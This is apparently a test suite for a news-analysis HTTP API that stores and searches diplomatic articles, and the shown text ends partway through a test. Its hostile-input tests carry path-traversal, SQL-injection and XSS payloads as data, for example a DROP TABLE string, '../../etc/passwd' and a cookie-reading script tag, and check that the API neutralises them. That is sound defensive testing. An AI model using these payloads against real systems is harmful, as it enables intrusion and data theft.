/**
 * The HTTP API through Fastify's inject (real server, real SQLite store, the real pipeline on
 * POST): every route, validation errors, pagination, auth, limits and hostile input. The samples
 * are uploaded through POST /api/articles, so what the read routes see was stored by the API.
 */
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { spawn } from 'node:child_process';
import iconv from 'iconv-lite';
import { XMLParser, XMLValidator } from 'fast-xml-parser';
import { validate as validateOpenApi, compileErrors } from '@readme/openapi-parser';
import { buildServer, registeredRoutes, type App } from '../../src/api/server.js';
import { openStore } from '../../src/store/index.js';
import { loadQueryLemmatizer } from '../../src/store/lemmatizer.js';

const ROOT = fileURLToPath(new URL('../..', import.meta.url));
const SAMPLES = join(ROOT, 'samples');
const TOKEN = 'test-token-0123456789abcdef';
const auth = { authorization: `Bearer ${TOKEN}` };

const tmp = mkdtempSync(join(tmpdir(), 'parley-api-'));
let app: App;
let mainStore: Awaited<ReturnType<typeof openStore>>;
/** method + route url of every request the tests made (to check every route is tested) */
const hit = new Set<string>();

function openTestStore(name: string, lemmatizer?: Awaited<ReturnType<typeof loadQueryLemmatizer>>) {
  return openStore(join(tmp, name), { lemmatizer });
}

async function get(url: string, headers: Record<string, string> = {}) {
  return app.inject({ method: 'GET', url, headers });
}
const json = (r: { body: string }) => JSON.parse(r.body);

/** An error response has the one shape: {error, message, details}. */
function assertError(r: { statusCode: number; body: string; headers: Record<string, unknown> }, status: number, code?: string) {
  assert.equal(r.statusCode, status, r.body);
  assert.match(String(r.headers['content-type']), /application\/json/);
  const b = json(r);
  assert.deepEqual(Object.keys(b).sort(), ['details', 'error', 'message']);
  assert.equal(typeof b.message, 'string');
  assert.ok(b.message.length > 5);
  if (code) assert.equal(b.error, code);
  return b;
}

const uploads: { name: string; type: string }[] = [
  { name: 'ru-2025-02-12-putin-trump-call.txt', type: 'text/plain' },
  { name: 'ru-2025-02-18-riyadh-talks.txt', type: 'text/plain' },
  { name: 'uk-2025-03-11-jeddah-talks.txt', type: 'text/plain' },
  { name: 'ru-2025-07-01-macron-putin-call.html', type: 'text/html' },
  { name: 'uk-diplomacy.rss', type: 'application/rss+xml' },
  { name: 'diplomacy-2025.jsonl', type: 'application/x-ndjson' },
];

before(async () => {
  const store = await openTestStore('api.db', await loadQueryLemmatizer());
  mainStore = store;
  app = await buildServer({ store, token: TOKEN, rateLimit: false, maxUploadBytes: 512 * 1024, webDir: null });
  app.addHook('onResponse', async (req) => {
    hit.add(`${req.method} ${req.routeOptions.url ?? ''}`);
  });
  await app.ready();
});

after(async () => {
  await app?.close();
  rmSync(tmp, { recursive: true, force: true });
});

describe('POST /api/articles (ingest)', () => {
  test('uploads every sample format and reports per-item results as the CLI does', async () => {
    assert.deepEqual(
      readdirSync(SAMPLES).filter((f) => f !== 'README.md').sort(),
      uploads.map((u) => u.name).sort(),
      'every sample file is uploaded',
    );
    let stored = 0;
    for (const u of uploads) {
      const r = await app.inject({ method: 'POST', url: `/api/articles?name=${u.name}`, headers: { ...auth, 'content-type': u.type }, payload: readFileSync(join(SAMPLES, u.name)) });
      assert.equal(r.statusCode, 200, `${u.name}: ${r.body}`);
      const b = json(r);
      assert.equal(b.rejected.length, 0, JSON.stringify(b.rejected));
      assert.ok(b.new >= 1, u.name);
      assert.equal(b.items.length, b.read);
      for (const it of b.items) assert.match(it.status, /^(new|duplicate)$/);
      stored += b.new;
    }
    const s = json(await get('/api/stats'));
    assert.equal(s.articles, stored);
    // again: every item is a duplicate, nothing new
    const again = json(await app.inject({ method: 'POST', url: '/api/articles?name=x.txt', headers: { ...auth, 'content-type': 'text/plain' }, payload: readFileSync(join(SAMPLES, uploads[0].name)) }));
    assert.deepEqual([again.new, again.duplicates], [0, 1]);
  });

  test('writes need the bearer token', async () => {
    const body = readFileSync(join(SAMPLES, uploads[0].name));
    assertError(await app.inject({ method: 'POST', url: '/api/articles', headers: { 'content-type': 'text/plain' }, payload: body }), 401, 'unauthorized');
    assertError(await app.inject({ method: 'POST', url: '/api/articles', headers: { 'content-type': 'text/plain', authorization: 'Bearer wrong-token-0123456789ab' }, payload: body }), 401);
    assertError(await app.inject({ method: 'POST', url: '/api/articles', headers: { 'content-type': 'text/plain', authorization: `Basic ${TOKEN}` }, payload: body }), 401);
  });

  test('a server without a token is read-only', async () => {
    const ro = await buildServer({ store: await openTestStore('ro.db'), token: null, rateLimit: false, webDir: null });
    try {
      const r = await ro.inject({ method: 'POST', url: '/api/articles', headers: { ...auth, 'content-type': 'text/plain' }, payload: 'Текст' });
      assertError(r, 403, 'read_only');
      assert.equal(json(await ro.inject({ method: 'GET', url: '/api/health' })).writable, false);
      assert.equal(json(await ro.inject({ method: 'GET', url: '/api/stats' })).articles, 0);
    } finally {
      await ro.close();
    }
  });

  test('hostile bodies get a clear 4xx and change nothing stored', async () => {
    const before = await get('/api/stats');
    const post = (payload: string | Buffer, type: string, url = '/api/articles') => app.inject({ method: 'POST', url, headers: { ...auth, 'content-type': type }, payload });
    // oversized (the test server takes 512 KiB)
    assertError(await post(Buffer.alloc(600 * 1024, 0x61), 'text/plain'), 413, 'payload_too_large');
    // invalid JSON: read, nothing readable, the reason named
    let b = assertUnreadable(await post('{"id": "x", "text": ', 'application/json'));
    assert.match(b.rejected[0].error, /JSON/);
    // binary
    b = assertUnreadable(await post(Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 37) % 256)), 'application/octet-stream'));
    assert.match(b.rejected[0].error, /binary|decod/i);
    // empty
    assertError(await post('', 'text/plain'), 400);
    // a page that is only a script: no article in it
    assertUnreadable(await post('<html><head><script>alert(1)</script></head><body><script>fetch("/api")</script></body></html>', 'text/html'));
    // media types that are not article formats
    assertError(await post('a=1', 'application/x-www-form-urlencoded'), 415, 'unsupported_media_type');
    assertError(await post('--x\r\n', 'multipart/form-data; boundary=x'), 415);
    // a path in the name
    assertError(await post('Текст статьи.', 'text/plain', '/api/articles?name=../../etc/passwd'), 400, 'bad_request');
    const afterStats = await get('/api/stats');
    assert.equal(afterStats.body, before.body, 'nothing stored changed');
  });

  test('script in an article is stored as data and returned inert (JSON, nosniff)', async () => {
    const title = '<script>alert("t")</script> Лавров <img src=x onerror=alert(1)>';
    const text =
      'Министр иностранных дел России Сергей Лавров провел переговоры с госсекретарем США Марко Рубио в Эр-Рияде. <script>alert(document.cookie)</script> ' +
      'Стороны обсудили <a href="javascript:alert(1)">восстановление</a> работы посольств.';
    const line = JSON.stringify({ id: 'hostile-1', title, text, published: '2025-02-20', lang: 'ru' });
    const r = await app.inject({ method: 'POST', url: '/api/articles?name=hostile.jsonl', headers: { ...auth, 'content-type': 'application/x-ndjson' }, payload: line + '\n' });
    assert.equal(r.statusCode, 200, r.body);
    const a = await get('/api/articles/hostile-1');
    assert.equal(a.statusCode, 200);
    assert.match(String(a.headers['content-type']), /^application\/json/);
    assert.equal(a.headers['x-content-type-options'], 'nosniff');
    const doc = json(a);
    // stored as written, or as text with the markup taken out by the reader: never anything else
    assert.ok(doc.title === title || (!/[<>]/.test(doc.title) && doc.title.includes('Лавров')), doc.title);
    assert.ok(doc.text.includes('<script>alert(document.cookie)</script>') || !/<script/i.test(doc.text), doc.text);
    assert.match(doc.text, /работы посольств/);
    // and it is found, as text
    const s = json(await get('/api/search?q=' + encodeURIComponent('Рубио посольств')));
    assert.ok(s.items.some((h: { id: string }) => h.id === 'hostile-1'));
  });
});

function assertUnreadable(r: { statusCode: number; body: string }) {
  assert.equal(r.statusCode, 422, r.body);
  const b = JSON.parse(r.body);
  assert.equal(b.read, 0);
  assert.ok(b.rejected.length >= 1);
  for (const x of b.rejected) assert.ok(x.error.length > 5);
  return b;
}

describe('read routes', () => {
  test('GET /api/health and /api/stats', async () => {
    const h = json(await get('/api/health'));
    assert.equal(h.ok, true);
    assert.equal(h.writable, true);
    const s = json(await get('/api/stats'));
    assert.ok(s.articles >= 9);
    assert.ok(s.events > 0 && s.quotes > 0 && s.entities > 0);
    assert.deepEqual(s.byLang.map((x: { lang: string }) => x.lang).sort(), ['en', 'ru', 'uk']);
  });

  test('GET /api/articles pages with a cursor through every stored article, newest first', async () => {
    const total = json(await get('/api/stats')).articles;
    const seen: string[] = [];
    let dates: string[] = [];
    let url = '/api/articles?limit=3';
    for (let i = 0; i < 20; i++) {
      const p = json(await get(url));
      assert.ok(p.items.length <= 3);
      seen.push(...p.items.map((a: { id: string }) => a.id));
      dates.push(...p.items.map((a: { published: string | null }) => a.published ?? ''));
      if (!p.next) break;
      url = `/api/articles?limit=3&cursor=${p.next}`;
    }
    assert.equal(seen.length, total);
    assert.equal(new Set(seen).size, total);
    dates = dates.filter(Boolean);
    assert.deepEqual(dates, [...dates].sort().reverse());
    // filters
    const uk = json(await get('/api/articles?lang=uk&limit=200'));
    assert.ok(uk.items.length >= 2);
    assert.ok(uk.items.every((a: { lang: string }) => a.lang === 'uk'));
    assert.equal(uk.next, null);
    const feb = json(await get('/api/articles?from=2025-02&to=2025-02'));
    assert.ok(feb.items.length >= 2 && feb.items.every((a: { published: string }) => a.published.startsWith('2025-02')));
  });

  test('GET /api/articles/:id: the text and every layer with spans', async () => {
    const [first] = json(await get('/api/articles?lang=ru&limit=1')).items;
    const r = await get(`/api/articles/${encodeURIComponent(first.id)}`);
    assert.equal(r.statusCode, 200);
    const a = json(r);
    assert.equal(a.schema, 'parley/article@1');
    for (const layer of ['entities', 'quotes', 'events', 'times', 'sentences']) assert.ok(Array.isArray(a[layer]), layer);
    for (const e of a.entities) for (const m of e.mentions) assert.equal(a.text.slice(m.start, m.end), m.text);
    for (const e of a.events) assert.ok(e.start < e.end && e.end <= a.text.length);
    // unknown ids, path traversal, control characters
    assertError(await get('/api/articles/no-such-article'), 404, 'not_found');
    assertError(await get('/api/articles/..%2F..%2F..%2Fetc%2Fpasswd'), 404, 'not_found');
    assertError(await get('/api/articles/%2E%2E'), 404);
    assertError(await get('/api/articles/a%00b'), 400, 'bad_request');
    assertError(await get(`/api/articles/${'x'.repeat(400)}`), 400);
  });

  test('ETag on read routes: a repeat with If-None-Match is 304', async () => {
    for (const url of ['/api/stats', '/api/articles?limit=2', '/api/search?q=Trump', '/api/events?limit=5']) {
      const r = await get(url);
      const etag = r.headers.etag as string;
      assert.ok(etag, url);
      const again = await get(url, { 'if-none-match': etag });
      assert.equal(again.statusCode, 304, url);
      assert.equal(again.body, '');
    }
  });

  test('GET /api/search: any inflected form, filters, snippets, pagination', async () => {
    const r = json(await get('/api/search?q=' + encodeURIComponent('переговоры') + '&lang=ru'));
    assert.ok(r.total >= 2, JSON.stringify(r));
    assert.ok(r.terms[0].lemmas.includes('переговоры'));
    for (const h of r.items) {
      assert.equal(h.lang, 'ru');
      assert.ok(h.matches.length > 0);
      assert.match(h.snippet, /«[^»]+»/);
    }
    // every form of a name: Зеленского, Зеленским ... and the Ukrainian spelling
    const z = json(await get('/api/search?q=' + encodeURIComponent('Зеленський') + '&lang=uk'));
    assert.ok(z.total >= 1);
    const ctrl = json(await get('/api/search?q=' + encodeURIComponent('переговоры') + '&marks=ctrl'));
    assert.ok(ctrl.items.every((h: { snippet: string }) => h.snippet.includes('\u0002') && h.snippet.includes('\u0003')));
    // pages: limit 1, then the next page holds another article
    const p1 = json(await get('/api/search?q=' + encodeURIComponent('переговоры') + '&limit=1'));
    assert.equal(p1.items.length, 1);
    assert.ok(p1.next);
    const p2 = json(await get('/api/search?q=' + encodeURIComponent('переговоры') + `&limit=1&cursor=${p1.next}`));
    assert.equal(p2.items.length, 1);
    assert.notEqual(p2.items[0].id, p1.items[0].id);
    assert.equal(p2.total, p1.total);
    // validation
    assertError(await get('/api/search'), 400, 'bad_request');
    assertError(await get('/api/search?q=x&lang=de'), 400);
    const bad = assertError(await get('/api/search?q=x&from=2026-13'), 400);
    assert.match(bad.message, /from is not a date/);
    assertError(await get('/api/search?q=x&limit=0'), 400);
    assertError(await get('/api/search?q=x&limit=201'), 400);
    assertError(await get('/api/search?q=x&limit=ten'), 400);
    assertError(await get('/api/search?q=x&cursor=AAAA'), 400);
    assertError(await get('/api/search?q=x&cursor=not%20base64!'), 400);
    assertError(await get('/api/search?q=x&color=red'), 400);
  });

  test('SQL in filters is data: 200, nothing found, nothing changed', async () => {
    const before = (await get('/api/stats')).body;
    const inj = encodeURIComponent("x' OR 1=1; DROP TABLE articles; --");
    for (const url of [
      `/api/search?q=${inj}`,
      `/api/search?q=${encodeURIComponent('"переговоры" OR * NEAR(a b)')}`,
      `/api/search?q=Trump&outlet=${inj}`,
      `/api/articles?outlet=${inj}`,
      `/api/articles?entity=${inj}`,
      `/api/entities?name=${inj}`,
      `/api/quotes?speaker=${inj}`,
      `/api/events?actor=${inj}`,
    ]) {
      const r = await get(url);
      assert.equal(r.statusCode, 200, `${url}: ${r.body}`);
      const b = json(r);
      assert.equal(b.items.length, url.includes('NEAR') ? b.items.length : 0, url);
    }
    assert.equal((await get('/api/stats')).body, before);
  });

  test('GET /api/entities and /api/entities/:id', async () => {
    const p = json(await get('/api/entities?type=PER&limit=5'));
    assert.equal(p.items.length, 5);
    assert.ok(p.items.every((e: { type: string }) => e.type === 'PER'));
    assert.ok(p.next);
    const p2 = json(await get(`/api/entities?type=PER&limit=5&cursor=${p.next}`));
    assert.ok(!p2.items.some((e: { id: string }) => p.items.some((x: { id: string }) => x.id === e.id)));
    const named = json(await get('/api/entities?name=' + encodeURIComponent('Лавров')));
    assert.ok(named.items.length >= 1);
    const one = json(await get(`/api/entities/${encodeURIComponent(named.items[0].id)}`));
    assert.equal(one.entity.id, named.items[0].id);
    assert.ok(Array.isArray(one.quotes) && Array.isArray(one.events));
    assert.ok(one.events.every((e: { actors: { id: string }[] }) => e.actors.some((a) => a.id === one.entity.id)));
    assertError(await get('/api/entities/' + encodeURIComponent('new:PER:nobody at all')), 404);
    assertError(await get('/api/entities?type=XYZ'), 400);
  });

  test('GET /api/quotes', async () => {
    const q = json(await get('/api/quotes?limit=200'));
    assert.ok(q.items.length > 3);
    for (const x of q.items) assert.ok(x.start < x.end);
    const ru = json(await get('/api/quotes?lang=ru&kind=direct'));
    assert.ok(ru.items.every((x: { lang: string; kind: string }) => x.lang === 'ru' && x.kind === 'direct'));
    const sp = q.items.find((x: { speaker: string | null }) => x.speaker);
    const bySpeaker = json(await get(`/api/quotes?speaker=${encodeURIComponent(sp.speaker)}`));
    assert.ok(bySpeaker.items.length >= 1 && bySpeaker.items.every((x: { speaker: string }) => x.speaker === sp.speaker));
    assertError(await get('/api/quotes?lang=xx'), 400);
    assertError(await get('/api/quotes?kind=shouted'), 400);
  });

  test('GET /api/events', async () => {
    const all = json(await get('/api/events?limit=200'));
    assert.ok(all.items.length > 3);
    const consult = json(await get('/api/events?type=CONSULT&mode=call'));
    assert.ok(consult.items.length >= 1);
    assert.ok(consult.items.every((e: { type: string; mode: string }) => e.type === 'CONSULT' && e.mode === 'call'));
    const planned = json(await get('/api/events?status=planned'));
    assert.ok(planned.items.every((e: { status: string }) => e.status === 'planned'));
    assertError(await get('/api/events?type=FOO'), 400);
    assertError(await get('/api/events?status=maybe'), 400);
    assertError(await get('/api/events?from=yesterday'), 400);
  });

  test('GET /api/export streams JSON Lines, CSV, PLOVER and GraphML', async () => {
    const n = json(await get('/api/stats')).events;
    const jl = await get('/api/export?what=events&format=jsonl');
    assert.equal(jl.statusCode, 200);
    assert.match(String(jl.headers['content-disposition']), /attachment; filename="parley-events.jsonl"/);
    assert.equal(jl.body.trim().split('\n').length, n);
    const csv = await get('/api/export?what=quotes&format=csv');
    assert.match(String(csv.headers['content-type']), /text\/csv/);
    assert.match(csv.body.split('\n')[0], /^article,published,lang,outlet,speaker/);
    const plover = JSON.parse((await get('/api/export?what=events&format=plover&type=CONSULT')).body);
    assert.ok(plover.length >= 1 && plover.every((p: { event: string }) => p.event === 'CONSULT'));
    const gml = (await get('/api/export?what=events&format=graphml')).body;
    assert.equal(XMLValidator.validate(gml), true);
    const g = new XMLParser({ ignoreAttributes: false }).parse(gml).graphml.graph;
    assert.ok([g.node].flat().length >= 2 && [g.edge].flat().length >= 1);
    const arts = (await get('/api/export?what=articles&format=jsonl')).body.trim().split('\n');
    assert.equal(arts.length, json(await get('/api/stats')).articles);
    assert.ok((await get('/api/export?what=entities&format=csv')).body.split('\n').length > 5);
    assertError(await get('/api/export?what=quotes&format=graphml'), 400);
    assertError(await get('/api/export?format=pdf'), 400);
  });

  test('GET /feeds/search.atom: a saved search as Atom, newest first, text escaped', async () => {
    const r = await get('/feeds/search.atom?q=' + encodeURIComponent('Лавров'));
    assert.equal(r.statusCode, 200);
    assert.match(String(r.headers['content-type']), /application\/atom\+xml/);
    assert.equal(XMLValidator.validate(r.body), true);
    const feed = new XMLParser().parse(r.body).feed;
    const entries = [feed.entry].flat().filter(Boolean);
    assert.ok(entries.length >= 2);
    const dates = entries.map((e: { updated: string }) => e.updated);
    assert.deepEqual(dates, [...dates].sort().reverse());
    assert.ok(!/<script>/.test(r.body), 'the hostile article title is escaped');
    assertError(await get('/feeds/search.atom'), 400);
  });
});

describe('corpus routes (stories, claims, actors, network, framing)', () => {
  test('GET /api/stories and /api/stories/:id', async () => {
    const p = json(await get('/api/stories?limit=2'));
    assert.equal(p.items.length, 2);
    assert.ok(p.next);
    for (const s of p.items) {
      assert.equal(s.schema, 'parley/story@1');
      assert.equal(s.articleCount, s.articles.length);
    }
    const all = json(await get('/api/stories?limit=200'));
    const big = all.items.reduce((a: { articleCount: number }, b: { articleCount: number }) => (b.articleCount > a.articleCount ? b : a));
    const one = json(await get(`/api/stories/${encodeURIComponent(big.id)}`));
    assert.equal(one.id, big.id);
    assert.deepEqual(one.articleList.map((a: { id: string }) => a.id).sort(), [...big.articles].sort());
    assert.ok(one.claimList.every((c: { schema: string }) => c.schema === 'parley/claim@1'));
    const ru = json(await get('/api/stories?lang=ru&limit=200'));
    assert.ok(ru.items.length >= 1 && ru.items.every((s: { langs: string[] }) => s.langs.includes('ru')));
    // coverage (articles per day), the story of an article, stories of an outlet
    for (const st of all.items) for (const c of st.coverage) assert.match(c.date, /^\d{4}-\d{2}-\d{2}$/);
    const withDates = one.articleList.filter((a: { published: string | null }) => a.published).length;
    assert.equal(json(await get(`/api/stories?limit=200`)).items.find((x: { id: string }) => x.id === big.id).coverage.reduce((n: number, c: { n: number }) => n + c.n, 0), withDates);
    const ofArticle = json(await get('/api/stories?article=' + encodeURIComponent(big.articles[0])));
    assert.deepEqual(ofArticle.items.map((x: { id: string }) => x.id), [big.id]);
    const outlet = big.outlets[0];
    const byOutlet = json(await get('/api/stories?limit=200&outlet=' + encodeURIComponent(outlet.toUpperCase())));
    assert.ok(byOutlet.items.some((x: { id: string }) => x.id === big.id));
    assert.ok(byOutlet.items.every((x: { outlets: string[] }) => x.outlets.some((o) => o.toLowerCase().includes(outlet.toLowerCase()))));
    assert.equal(json(await get('/api/stories?outlet=' + encodeURIComponent('no such outlet zzz'))).items.length, 0);
    assertError(await get('/api/stories/s-000000000000'), 404, 'not_found');
    assertError(await get('/api/stories?lang=fr'), 400);
    assertError(await get('/api/stories?minArticles=0'), 400);
  });

  test('stories are bounded: the latest ids with the total, the same as the full story; its articles page by page', async () => {
    const lib = await import('../../src/corpus/stories/index.js');
    const full = await lib.listStories(mainStore, { limit: 200 });
    const api = json(await get('/api/stories?limit=200')).items;
    assert.deepEqual(api.map((s: { id: string }) => s.id), full.map((s) => s.id), 'same stories, same order');
    full.forEach((f, i) => {
      const { articles, articleCount, coverage, ...rest } = api[i];
      assert.deepEqual(rest, Object.fromEntries(Object.entries(f).filter(([k]) => k !== 'articles')));
      assert.deepEqual(articles, f.articles.slice(-lib.LATEST_ARTICLES));
      assert.equal(articleCount, f.articles.length);
      assert.ok(Array.isArray(coverage));
    });
    // bounded below the stories' size: the tail of the full list, same order, every other field the same
    const big = full.reduce((a, b) => (b.articles.length > a.articles.length ? b : a));
    assert.ok(big.articles.length >= 3, 'a story of 3 articles or more in the samples');
    for (const n of [1, 2, big.articles.length - 1, big.articles.length + 5]) {
      const h = await lib.getStoryHead(mainStore, big.id, n);
      assert.deepEqual(h.articles, big.articles.slice(-n));
      assert.deepEqual({ ...h, articles: [], articleCount: 0, coverage: [] }, { ...big, articles: [], articleCount: 0, coverage: [] });
      const [viaList] = await lib.listStoryHeads(mainStore, { article: big.articles[0] }, n);
      assert.deepEqual(viaList, h);
    }
    // the per-story articles route walks every article once, in the story's order
    const walked: string[] = [];
    let url: string | null = `/api/stories/${encodeURIComponent(big.id)}/articles?limit=2`;
    while (url) {
      const p = json(await get(url));
      assert.ok(p.items.length <= 2);
      walked.push(...p.items.map((a: { id: string }) => a.id));
      url = p.next ? `/api/stories/${encodeURIComponent(big.id)}/articles?limit=2&cursor=${p.next}` : null;
    }
    assert.deepEqual(walked, big.articles);
    const one = json(await get(`/api/stories/${encodeURIComponent(big.id)}`));
    assert.equal(one.articleCount, big.articles.length);
    assertError(await get('/api/stories/s-000000000000/articles'), 404, 'not_found');
    assertError(await get(`/api/stories/${encodeURIComponent(big.id)}/articles?limit=0`), 400);
  });

  test('GET /api/claims and /api/claims/:id: reports with evidence, history, names', async () => {
    const p = json(await get('/api/claims?limit=200'));
    assert.ok(p.items.length >= 3);
    const c = p.items.find((x: { reports: unknown[] }) => x.reports.length >= 1);
    const one = json(await get(`/api/claims/${encodeURIComponent(c.id)}`));
    assert.equal(one.schema, 'parley/claim@1');
    for (const r of one.reports) {
      const a = json(await get(`/api/articles/${encodeURIComponent(r.article)}`));
      assert.equal(a.text.slice(r.evidence.start, r.evidence.end), r.evidence.text, 'the evidence is the article text at its span');
    }
    for (const id of one.actors) assert.equal(typeof one.names[id]?.name, 'string');
    const consult = json(await get('/api/claims?type=CONSULT&status=occurred'));
    assert.ok(consult.items.every((x: { type: string; status: string }) => x.type === 'CONSULT' && x.status === 'occurred'));
    const byActor = json(await get('/api/claims?actor=' + encodeURIComponent(one.actors[0])));
    assert.ok(byActor.items.some((x: { id: string }) => x.id === one.id));
    const ofArticle = json(await get('/api/claims?article=' + encodeURIComponent(one.reports[0].article)));
    assert.ok(ofArticle.items.some((x: { id: string }) => x.id === one.id));
    const p1 = json(await get('/api/claims?limit=2'));
    const p2 = json(await get(`/api/claims?limit=2&cursor=${p1.next}`));
    assert.deepEqual(p2.items.map((x: { id: string }) => x.id), p.items.slice(2, 4).map((x: { id: string }) => x.id));
    assertError(await get('/api/claims/c-000000000000'), 404);
    assertError(await get('/api/claims?actor=' + encodeURIComponent('Nobody Atall Zzyzx')), 404);
    assertError(await get('/api/claims?status=rumoured'), 400);
  });

  test('GET /api/actors, /api/actors/:id (by id or name), /api/network, /api/framing', async () => {
    const p = json(await get('/api/actors?limit=3'));
    assert.equal(p.items.length, 3);
    assert.ok(p.items.every((a: { schema: string }) => a.schema === 'parley/actor@1'));
    const next = json(await get(`/api/actors?limit=3&cursor=${p.next}`));
    assert.ok(!next.items.some((a: { id: string }) => p.items.some((b: { id: string }) => b.id === a.id)));
    const lavrov = json(await get('/api/actors/' + encodeURIComponent('Лавров')));
    assert.equal(lavrov.schema, 'parley/actor@1');
    assert.equal(json(await get('/api/actors/' + encodeURIComponent(lavrov.id))).id, lavrov.id);
    assert.equal(typeof lavrov.names, 'object');
    assert.ok(Object.values(lavrov.names).some((n) => /Лавров|Lavrov/.test(String(n))), 'the actor keeps its own names per language');
    for (const c of lavrov.contacts) assert.equal(typeof lavrov.contactNames[c.actor]?.name, 'string');
    assertError(await get('/api/actors/' + encodeURIComponent('Nobody Atall Zzyzx')), 404);
    const net = json(await get('/api/network'));
    assert.ok(net.nodes.length >= 2 && net.edges.length >= 1);
    const ids = new Set(net.nodes.map((n: { id: string }) => n.id));
    for (const e of net.edges) assert.ok(ids.has(e.source) && ids.has(e.target));
    const calls = json(await get('/api/network?mode=call'));
    assert.ok(calls.edges.length <= net.edges.length);
    assertError(await get('/api/network?from=2025-00'), 400);
    const story = json(await get('/api/stories?limit=1')).items[0];
    const fr = json(await get('/api/framing?story=' + encodeURIComponent(story.id)));
    assert.equal(fr.story, story.id);
    assertError(await get('/api/framing'), 400);
    assertError(await get('/api/framing?story=s-000000000000'), 404);
  });

  test('GET /feeds/claims.atom and claims export', async () => {
    const r = await get('/feeds/claims.atom?status=occurred');
    assert.equal(r.statusCode, 200);
    assert.equal(XMLValidator.validate(r.body), true);
    const entries = [new XMLParser().parse(r.body).feed.entry].flat().filter(Boolean);
    assert.ok(entries.length >= 1);
    assert.ok(entries.every((e: { title: string }) => /occurred/.test(e.title)));
    const actor = json(await get('/api/actors?limit=1')).items[0];
    const byActor = await get('/feeds/claims.atom?actor=' + encodeURIComponent(actor.id));
    assert.equal(byActor.statusCode, 200);
    assertError(await get('/feeds/claims.atom?status=maybe'), 400);
    const n = json(await get('/api/claims?limit=200')).items.length;
    const jl = (await get('/api/export?what=claims&format=jsonl')).body.trim().split('\n');
    assert.equal(jl.length, n);
    const csv = await get('/api/export?what=claims&format=csv');
    assert.match(csv.body, /^claim,type,mode/);
    const gml = (await get('/api/export?what=claims&format=graphml')).body;
    assert.equal(XMLValidator.validate(gml), true);
    assertError(await get('/api/export?what=claims&actor=' + encodeURIComponent('Nobody Atall Zzyzx')), 404);
  });
});

describe('the issue checklist, route by route', () => {
  /** One valid URL per GET route (ids taken from what the samples stored). */
  async function readUrls(): Promise<Record<string, string>> {
    const article = json(await get('/api/articles?lang=ru&limit=1')).items[0].id as string;
    const entity = json(await get('/api/entities?type=PER&limit=1')).items[0].id as string;
    const story = json(await get('/api/stories?limit=1')).items[0].id as string;
    const claim = json(await get('/api/claims?limit=1')).items[0].id as string;
    const actor = json(await get('/api/actors?limit=1')).items[0].id as string;
    const q = encodeURIComponent('переговоры');
    return {
      '/api/health': '/api/health',
      '/api/stats': '/api/stats',
      '/api/articles': '/api/articles?limit=5&lang=ru',
      '/api/articles/:id': `/api/articles/${encodeURIComponent(article)}`,
      '/api/search': `/api/search?q=${q}&limit=5`,
      '/api/entities': '/api/entities?limit=5',
      '/api/entities/:id': `/api/entities/${encodeURIComponent(entity)}`,
      '/api/quotes': '/api/quotes?limit=5',
      '/api/events': '/api/events?limit=5&type=CONSULT',
      '/api/export': '/api/export?what=events&format=jsonl',
      '/api/stories': '/api/stories?limit=5',
      '/api/stories/:id': `/api/stories/${encodeURIComponent(story)}`,
      '/api/stories/:id/articles': `/api/stories/${encodeURIComponent(story)}/articles?limit=5`,
      '/api/claims': '/api/claims?limit=5',
      '/api/claims/:id': `/api/claims/${encodeURIComponent(claim)}`,
      '/api/actors': '/api/actors?limit=5',
      '/api/actors/:id': `/api/actors/${encodeURIComponent(actor)}`,
      '/api/network': '/api/network',
      '/api/framing': `/api/framing?story=${encodeURIComponent(story)}`,
      '/feeds/search.atom': `/feeds/search.atom?q=${q}`,
      '/feeds/claims.atom': '/feeds/claims.atom?status=occurred',
    };
  }

  test('every GET route answers 200 and every one is listed here', async () => {
    const urls = await readUrls();
    const gets = registeredRoutes(app).filter((x) => !x.hidden && x.method === 'GET' && !x.url.startsWith('/docs')).map((x) => x.url);
    assert.deepEqual(Object.keys(urls).sort(), [...new Set(gets)].sort(), 'a URL for every GET route');
    for (const url of Object.values(urls)) assert.equal((await get(url)).statusCode, 200, url);
  });

  test('ETag on every read route (export streams excepted): the same request with If-None-Match is 304, with no body', async () => {
    for (const [route, url] of Object.entries(await readUrls())) {
      if (route === '/api/export') continue; // streamed downloads: no ETag (the body is not held to hash it)
      const r = await get(url);
      const etag = r.headers.etag as string | undefined;
      assert.ok(etag, `${url}: no ETag`);
      const again = await get(url, { 'if-none-match': etag });
      assert.equal(again.statusCode, 304, `${url}: ${again.statusCode} (the body changed between two identical requests?)`);
      assert.equal(again.body, '');
      // another representation has another tag
      assert.equal((await get(url, { 'if-none-match': 'W/"other"' })).statusCode, 200, url);
    }
  });

  test('bad queries are 400 and unknown ids 404 on every route, in the one error shape', async () => {
    const urls = await readUrls();
    // an unknown parameter, on every route that takes a query
    for (const route of Object.keys(urls).filter((r) => !['/api/health', '/api/stats'].includes(r) && !r.includes(':id'))) {
      const url = urls[route];
      const b = assertError(await get(url + (url.includes('?') ? '&' : '?') + 'colour=red'), 400, 'bad_request');
      assert.match(b.message, /unknown parameter "colour"/, route);
    }
    // unknown ids (and ids no route takes: control characters, too long)
    for (const route of Object.keys(urls).filter((r) => r.includes(':id'))) {
      assertError(await get(route.replace(':id', encodeURIComponent('no such id ' + route))), 404, 'not_found');
      assertError(await get(route.replace(':id', 'a%01b')), 400, 'bad_request');
      assertError(await get(route.replace(':id', 'x'.repeat(301))), 400, 'bad_request');
    }
    // the page size cap (200) and cursors this server did not give, on every paged list
    for (const route of ['/api/articles', '/api/search', '/api/entities', '/api/quotes', '/api/events', '/api/stories', '/api/claims', '/api/actors']) {
      const url = urls[route].replace(/([?&])limit=\d+&?/, '$1').replace(/[?&]$/, '');
      const sep = url.includes('?') ? '&' : '?';
      const full = json(await get(`${url}${sep}limit=200`));
      assert.ok(Array.isArray(full.items) && full.items.length <= 200, route);
      const over = assertError(await get(`${url}${sep}limit=201`), 400, 'bad_request');
      assert.match(over.message, /limit/, route);
      assertError(await get(`${url}${sep}limit=-1`), 400);
      assertError(await get(`${url}${sep}cursor=${Buffer.from('{"o":-5}').toString('base64url')}`), 400, 'bad_request');
      assertError(await get(`${url}${sep}cursor=${encodeURIComponent("' OR 1=1 --")}`), 400, 'bad_request');
    }
    // dates and enums
